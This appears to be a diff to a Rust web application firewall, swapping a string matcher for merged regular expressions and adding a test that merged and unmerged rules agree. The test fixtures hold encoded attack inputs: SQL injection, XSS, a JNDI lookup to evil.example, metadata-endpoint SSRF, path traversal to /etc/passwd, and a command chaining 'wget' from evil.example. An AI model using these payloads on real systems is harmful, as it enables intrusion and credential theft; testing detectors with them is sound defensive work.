@@ -311,15 +311,11 @@ fn regex(field: Field, pattern: &str, transforms: &[Transform]) -> Statement {
     })
 }
 
+/// Any of several strings, in any case: one expression of their alternation, which the
+/// ACL merges with the others read through the same transformations.
 fn any_of(field: Field, strings: &[&str], transforms: &[Transform]) -> Statement {
-    Statement::AnyOf {
-        field,
-        searcher: aho_corasick::AhoCorasick::builder()
-            .ascii_case_insensitive(true)
-            .build(strings)
-            .unwrap_or_else(|error| panic!("managed rule strings: {error}")),
-        transforms: transforms.to_vec(),
-    }
+    let alternation: Vec<String> = strings.iter().map(|string| regex::escape(string)).collect();
+    regex(field, &format!("(?i){}", alternation.join("|")), transforms)
 }
 
 use Transform::{
@@ -1170,6 +1166,83 @@ mod tests {
         let injection = "q=1%27%20OR%20%271%27%3D%271";
         assert!(judge(&acl(1, Some(5)), inspection(injection, true)).0);
         assert!(judge(&acl(1, None), inspection(injection, true)).0);
+    }
+
+    #[test]
+    fn merging_the_expressions_changes_no_verdict() {
+        let queries = [
+            "q=red+wool+coat&category=women&page=2&per_page=24&sort=price",
+            "q=1%27%20OR%20%271%27%3D%271",
+            "id=1%20UNION%20ALL%20SELECT%20password%20FROM%20users",
+            "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
+            "q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+            "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
+            "file=..%2F..%2F..%2Fetc%2Fpasswd&x=/etc/shadow",
+            "host=example.com%3B%20uname%20-a&y=%24(whoami)",
+            "u=Invoke-WebRequest%20http://example.com/x.ps1",
+            "c=java.util.HashMap&d=class.module.classLoader.x",
+            "page=php%3A%2F%2Ffilter%2Fresource%3Dindex&x=system(%27id%27)",
+            "q=1%20and%20xmltype(1)&r=%27%7B%22a%22%3A1%7D%27%3A%3Ajsonb",
+            "q=women%27s+shoes+(red)&sort=price%7Cdesc",
+            "a=%00b&c=%25zz&%3Cscript%3E=1",
+        ];
+        let forms = [
+            "",
+            "email=ada%40example.com&name=Ada+O%27Brien&review=Lovely+coat%2C+5%2F5%21",
+            "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E&x=1+or+1%3D1",
+            "cmd=cat+%2Fetc%2Fpasswd%3B+wget+http%3A%2F%2Fevil.example%2Fx",
+        ];
+        let agents = [
+            "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
+            "sqlmap/1.7",
+        ];
+        for (paranoia, anomaly_threshold) in [(1, None), (2, Some(5)), (4, Some(5))] {
+            let merged = acl_with(
+                Vec::new(),
+                &Group::ALL,
+                Sensitivity {
+                    paranoia,
+                    anomaly_threshold,
+                },
+            );
+            let (statements, sets, unbuilt) = merged.merged().counts();
+            assert!(
+                statements > 50 && sets > 5 && unbuilt == 0,
+                "{statements} statements in {sets} sets, {unbuilt} chains not built"
+            );
+            let alone = merged.clone().unmerged();
+            for query in queries {
+                for form in forms {
+                    for agent in agents {
+                        let mut headers = HeaderMap::new();
+                        headers.insert("user-agent", agent.parse().expect("value"));
+                        headers.insert("cookie", "session=abc; theme=dark".parse().expect("value"));
+                        if !form.is_empty() {
+                            headers.insert(
+                                "content-type",
+                                "application/x-www-form-urlencoded".parse().expect("value"),
+                            );
+                        }
+                        let inspection = || {
+                            Inspection::new(
+                                if form.is_empty() { "GET" } else { "POST" },
+                                "/search",
+                                Some(query),
+                                &headers,
+                                form.as_bytes(),
+                                false,
+                                "127.0.0.1".parse().expect("address"),
+                            )
+                        };
+                        assert_eq!(
+                            merged.evaluate(&inspection()),
+                            alone.evaluate(&inspection()),
+                            "level {paranoia}: {query} / {form} / {agent}"
+                        );
+                    }
+                }
+            }
+        }
     }
 
     #[test]
